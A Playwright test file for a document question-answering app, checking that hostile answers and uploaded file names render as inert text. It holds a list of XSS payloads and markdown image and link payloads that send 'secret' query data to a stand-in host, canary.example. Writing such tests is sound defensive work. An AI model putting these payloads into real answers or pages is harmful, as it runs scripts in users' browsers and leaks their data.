import { haveLibrary, pickFiles, rowOf } from "./support/library";
import { expect, test } from "./support/model";

const CANARY = "https://canary.example";

const payloads = [
  `<img src="${CANARY}/i.png" onerror="alert(1)">`,
  "<script>alert(1)</script>",
  "<svg/onload=alert(1)>",
  `<iframe src="${CANARY}"></iframe>`,
  `![inline](${CANARY}/a.png?q=secret)`,
  `![reference][r]\n\n[r]: ${CANARY}/b.png`,
  `[click](javascript:alert(1))`,
  `[here](${CANARY}/?q=secret)`,
  `<${CANARY}/auto>`,
  `${CANARY}/bare`,
  `![nested [x](${CANARY}/c.png)](${CANARY}/d.png)`,
  `[data](data:text/html,<script>alert(1)</script>)`,
  `![p](//canary.example/e.png)`,
  `<style>@import "${CANARY}/s.css";</style>`,
  `<base href="${CANARY}"><form action="${CANARY}"><button>go</button></form>`,
  `<a href="${CANARY}" style="position:fixed;inset:0">everything</a>`,
  `<math><mtext></mtext><script>alert(1)</script></math>`,
  `"><script>alert(1)</script>`,
];

// The watch of every journey asserts: no dialog, no request to another host, no breach of the policy.
test("a hostile answer is text: while it is written and afterwards", async ({ page, model }) => {
  await haveLibrary(page);
  await page.goto("/");
  model.always({ text: `Six months. [1] [99] [0]\n\n${payloads.join("\n\n")}`, pieceLength: 7, delayMs: 5 });
  await page.getByLabel("Your question").fill("How much notice must either party give to terminate the agreement?");
  await page.getByLabel("Your question").press("Enter");
  await expect(page.getByRole("button", { name: "Answer again" })).toBeVisible({ timeout: 45_000 });

  const answer = page.locator(".answer");
  await expect(answer.locator("img, script, svg, iframe, a, form, style, base, math")).toHaveCount(0);
  await expect(answer.getByRole("button", { name: /^Source (99|0):/ })).toHaveCount(0);
  await page.reload();
  await expect(answer.locator("img, script, svg, iframe, a, form, style, base, math")).toHaveCount(0);
});

test("a hostile document is text: its name, its passage, its quote", async ({ page, model }) => {
  const name = `"><img src=x onerror=alert(1)> ${"long name ".repeat(6)}.txt`;
  const text = `The zeppelin hangar of Friedrichshafen measures 250 metres. ${payloads.join(" ")}`;
  await page.goto("/documents");
  await pickFiles(page, [{ name, mimeType: "text/plain", buffer: Buffer.from(text) }]);
  await expect(page.getByRole("row").filter({ hasText: "onerror=alert(1)" })).toContainText("Ready", { timeout: 45_000 });

  await page.goto("/");
  model.always({ text: "The hangar measures 250 metres. [1]" });
  await page.getByLabel("Your question").fill("How long is the zeppelin hangar of Friedrichshafen?");
  await page.getByLabel("Your question").press("Enter");
  const citation = page
    .getByRole("article")
    .getByRole("button", { name: /^Source 1: / })
    .first();
  await citation.hover();
  await expect(page.getByRole("tooltip")).toBeVisible();
  await citation.click();
  await expect(page.getByRole("region", { name: "Text" })).toContainText("<script>alert(1)</script>");
  await expect(page.getByRole("region", { name: "Text" }).locator("img, script, svg, iframe, a")).toHaveCount(0);

  await page.goto("/documents");
  const row = page.getByRole("row").filter({ hasText: "onerror=alert(1)" });
  await row.getByRole("button", { name: /^Actions for/ }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await expect(row).toHaveCount(0);
  await expect(rowOf(page, "never")).toHaveCount(0);
});
